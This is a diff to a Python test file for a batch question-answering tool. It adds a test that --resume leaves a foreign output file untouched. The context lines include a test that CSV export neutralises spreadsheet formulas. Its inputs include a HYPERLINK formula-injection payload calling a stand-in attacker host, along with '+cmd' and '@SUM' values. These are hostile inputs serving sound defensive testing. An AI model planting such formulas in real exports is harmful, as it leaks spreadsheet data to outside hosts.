@@ -134,6 +134,16 @@ def test_resume_continues_an_interrupted_partial_output(tmp_path):
     assert [json.loads(line)["id"] for line in out.read_text(encoding="utf-8").splitlines()] == ["q0", "q1", "q2", "q3"]
 
 
+def test_resume_refuses_a_file_that_batch_did_not_write_and_leaves_it_alone(tmp_path):
+    source = tmp_path / "q.jsonl"
+    source.write_text('{"id": "q0", "question": "질문"}\n', encoding="utf-8")
+    out = tmp_path / "notes.jsonl"
+    out.write_text("my own notes\n", encoding="utf-8")
+    with pytest.raises(BatchInputError, match="line 1 is not an answer record, so --resume cannot continue it"):
+        run_batch(EchoQA(), source, out, resume=True)
+    assert out.read_text(encoding="utf-8") == "my own notes\n"
+
+
 def test_csv_output_neutralises_formulas_and_resume_still_finds_their_ids(tmp_path):
     rows = [("=1+1", '=HYPERLINK("http://evil.example/"&A1,"click")'), ("+cmd", "@SUM(A1)"), ("plain", "-2 or \tthree")]
     source = tmp_path / "q.jsonl"
